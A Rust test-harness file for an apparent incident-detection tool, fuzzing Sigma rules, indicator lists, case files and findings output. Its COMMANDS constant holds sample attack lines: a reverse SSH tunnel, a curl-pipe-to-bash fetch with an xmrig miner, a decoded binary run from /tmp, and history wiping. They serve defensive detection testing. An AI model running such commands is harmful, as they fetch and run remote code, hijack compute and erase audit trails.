//! What is not evidence but is read: rules, case files, lists of indicators, expectations, earlier results.

use std::fs;

use coincident::detect::command::CommandLine;
use coincident::detect::rules::{CommandContext, ConnectionContext, DnsContext, RuleSet};
use coincident::intake::CaseFile;
use coincident::model::{Action, Protocol};
use coincident::report::lines::Line;
use coincident::report::{Screen, escape, explain, jsonl, rules as shown_rules};

use super::containers::scratch;
use super::shown::{assert_inert, assert_inert_csv};

const COMMANDS: [&str; 4] = [
    "ssh -f -N -R 2222:localhost:22 jump.example",
    "curl -s http://203.0.113.9/x.sh | bash; nohup ./xmrig -o pool.example:3333 -u 4A &",
    "echo aGk= | base64 -d > /tmp/x && chmod +x /tmp/x && /tmp/x",
    "history -c; unset HISTFILE; pip install torch",
];

/// A rule of Sigma, or with a NUL between two; behind 0xff a list of indicators. Whatever is refused is refused in words.
pub fn rules(data: &[u8]) {
    let folder = scratch("rules");
    let _ = fs::remove_file(folder.join("b.yml"));
    let (rule, list) = match data.iter().position(|byte| *byte == 0xff) {
        Some(at) => (&data[..at], Some(&data[at + 1..])),
        None => (data, None),
    };
    for (name, text) in ["a.yml", "b.yml"].iter().zip(rule.splitn(2, |byte| *byte == 0)) {
        fs::write(folder.join(name), text).expect("a file");
    }
    let lists = folder.join("indicators");
    fs::create_dir_all(&lists).expect("a folder");
    fs::write(lists.join("list.csv"), list.unwrap_or_default()).expect("a file");
    let set = RuleSet::from_dir(&folder).expect("a folder");
    assert!(set.lint().iter().all(|message| !message.message.is_empty()), "refused without a word");
    for text in COMMANDS {
        let line = CommandLine::parse(text);
        let context = CommandContext { line: &line, text };
        assert_eq!(format!("{:?}", set.command(&context)), format!("{:?}", set.command(&context)));
    }
    for action in [None, Some(Action::Deny)] {
        let connection = ConnectionContext {
            src: "10.0.0.1".parse().ok(),
            src_port: Some(40_000),
            dst: "203.0.113.9".parse().ok(),
            dst_port: Some(3333),
            protocol: Some(Protocol::TCP),
            hostname: Some("pool.example"),
            action,
            initiated: Some(true),
        };
        let _ = set.connection(&connection);
    }
    let _ = set.dns(&DnsContext { query: "pool.example", record_type: Some("TXT") });
    assert_inert("rules list", &shown_rules::table(&set, Screen::default()));
    assert_inert_csv("rules list", &shown_rules::csv(&set));
    assert_inert("rules list", &shown_rules::jsonl(&set));
    assert_inert("rules lint", &shown_rules::lint_table(&shown_rules::complaints(&set), Screen::default()));
}

/// A case file: read or refused in words; what it says is asked for.
pub fn case(data: &[u8]) {
    let Ok(text) = std::str::from_utf8(data) else { return };
    let mut case = match CaseFile::parse(text, "case.toml") {
        Ok(case) => case,
        Err(error) => {
            assert!(error.to_string().starts_with("case.toml:"), "{error}");
            return;
        }
    };
    let _ = case.declare(&["*.log=Europe/Berlin".to_owned()], &[], &["*.log=+1.5s".to_owned()]);
    let addresses = ["10.20.0.5", "203.0.113.9", "2001:db8::1", "::ffff:10.20.0.5"];
    for address in addresses.iter().filter_map(|text| text.parse().ok()) {
        let _ = (case.host_of_address(address).map(|host| case.host(&host.name)), case.run_of("transcripts/a/b.jsonl"));
        for (name, port) in [(None, None), (Some("pool.example"), Some(3333)), (Some("a.pypi.org"), Some(443))] {
            let allowed = case.is_allowed_egress(Some(address), name, port);
            let may = case.may_be_allowed_egress(Some(address), name, port);
            assert!(allowed != Some(true) || may == Some(true), "allowed, and yet it may not be");
        }
        let _ = case.intel.as_ref().map(|intel| (intel.knows_address(address), intel.knows_name("x.pool.example")));
    }
    let _ = (case.needs_approval("Bash"), case.is_allocated("/opt/conda/bin/python3"));
    for name in ["firewall.log", "transcripts/a/b.jsonl", "gpu/\u{202e}.csv"] {
        let _ = case.time_context_for(name);
    }
}

/// A list of indicators in any of the forms: read or refused in words, every entry used or counted.
pub fn intel(data: &[u8]) {
    let folder = scratch("intel");
    let path = folder.join(CaseFile::NAME);
    fs::write(&path, "[intel]\nfiles = [\"list\"]\n").expect("a file");
    fs::write(folder.join("list"), data).expect("a file");
    let case = match CaseFile::load(&path) {
        Ok(case) => case,
        Err(error) => {
            assert!(error.to_string().contains("case.toml:2"), "{error}");
            return;
        }
    };
    assert_eq!(case.lists().len(), 1);
    for list in case.lists() {
        assert_inert("indicators", &escape::terminal(&list.words()));
        assert_eq!(list.bytes, data);
        let _ = list.words();
    }
    let intel = case.intel.expect("it is named");
    for address in ["203.0.113.9", "2001:db8::1"].iter().filter_map(|text| text.parse().ok()) {
        let _ = intel.knows_address(address);
    }
    let text = String::from_utf8_lossy(data);
    for word in text.split_whitespace().take(50) {
        let _ = (intel.knows_name(word), intel.knows_word(word), intel.word_in(word));
    }
}

/// What is expected of an incident: read, or refused with its place.
pub fn expect(data: &[u8]) {
    let Ok(text) = std::str::from_utf8(data) else { return };
    if let Err(message) = super::expect::Expect::parse("expect.toml", text) {
        assert!(message.starts_with("expect.toml:"), "{message}");
    }
}

/// Lines of `findings.jsonl` that somebody else wrote: each that is read is written as a line that gives it back, and what
/// `explain` tells of any of them cannot drive a terminal.
pub fn findings(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let lines: Vec<Line> = text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
    for line in &lines {
        let written = jsonl::to_line(line);
        assert_inert("a line", &written);
        let again: Line = serde_json::from_str(&written).expect("what was written can be read");
        assert_eq!(jsonl::to_line(&again), written);
    }
    for id in explain::ids(&lines).into_iter().take(8) {
        for screen in
            [Screen::default(), Screen { color: false, width: Some(80) }, Screen { color: false, width: Some(20) }]
        {
            let told = explain::render(&lines, id, screen).expect("it is among them");
            assert_inert("explain", &told);
        }
        assert!(explain::extent(&lines, id).is_some());
    }
}
